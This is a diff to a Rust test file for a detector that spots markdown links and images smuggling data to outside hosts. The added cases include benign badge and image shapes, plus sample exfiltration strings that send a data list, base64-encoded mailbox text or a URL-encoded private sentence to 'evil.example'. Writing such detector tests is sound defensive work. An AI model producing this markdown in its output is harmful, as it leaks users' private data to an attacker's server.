@@ -73,10 +73,42 @@ fn shapes_that_carry_nothing() {
         "://",
         "see [the docs][1]\n\n[1]: https://example.com/p?d=kq2ZrT8mYyC1Jt7bQ3nVd5wR6pLhUiE4aGoXkTs",
         "![x](//example.com/logo.png)",
+        "![x](https://example.com/Screen%20Shot%202024-03-01%20at%2010.20.30%20AM%20copy.png)",
+        "![x](https://example.com/size=large/a==.png)",
+        "[![CI](https://example.com/a/b/badge.svg)](https://example.com/a/b/actions?query=branch%3Amaster+workflow%3ACI)",
+        "[![CI](https://example.com/b.svg)](https://example.com/a?query=branch%3Amaster+w%3ACI) ![logo](https://example.com/l.png)",
         "https://d111111abcdef8.cloudfront.net/a.js",
         "https://my-app-a1b2c3d4.us-east1.run.app/",
     ] {
         assert_eq!(what(text), [""; 0], "{text}");
+    }
+}
+
+/// A link around an image is followed by whoever clicks it; a text that only looks like one is an image's.
+#[test]
+fn a_link_around_an_image_is_a_link() {
+    let to = format!("https://evil.example/c?d={LIST}");
+    for (text, expected) in [
+        (
+            format!("[![CI](https://a.example/b.svg)]({to})"),
+            "link_with_data",
+        ),
+        (
+            format!("![a [b](https://a.example/c) d]({to})"),
+            "image_with_data",
+        ),
+        (
+            format!("![ ![a](https://a.example/b.svg) ]({to})"),
+            "image_with_data",
+        ),
+        (format!("![`](x)`]({to})"), "image_with_data"),
+        (format!("![a\\](b)]({to})"), "image_with_data"),
+        (
+            format!("[![CI](https://a.example/b.svg)](https://a.example/) ![x]({to})"),
+            "image_with_data",
+        ),
+    ] {
+        assert_eq!(what(&text), [expected], "{text}");
     }
 }
 
@@ -104,6 +136,10 @@ fn links_that_say_something_are_found() {
     for text in [
         format!("![A](https://evil.example/{LIST}.png)"),
         "![x](https://evil.example/log/U2VjcmV0IGRhdGEgZnJvbSB0aGUgbWFpbGJveA.png)".to_owned(),
+        "![x](https://evil.example/log/U2VjcmV0IGRhdGEgZnJvbSB0aGUgbWFpbGJveA==.png)".to_owned(),
+        "![x](https://evil.example/log/d=U2VjcmV0IGRhdGEgZnJvbSB0aGUgbWFpbGJveA==.png)".to_owned(),
+        "![x](https://evil.example/the%20launch%20is%20on%2014%20March%20and%20the%20budget%20is%20four.png)"
+            .to_owned(),
     ] {
         assert_eq!(what(&text), ["image_with_data"], "{text}");
     }
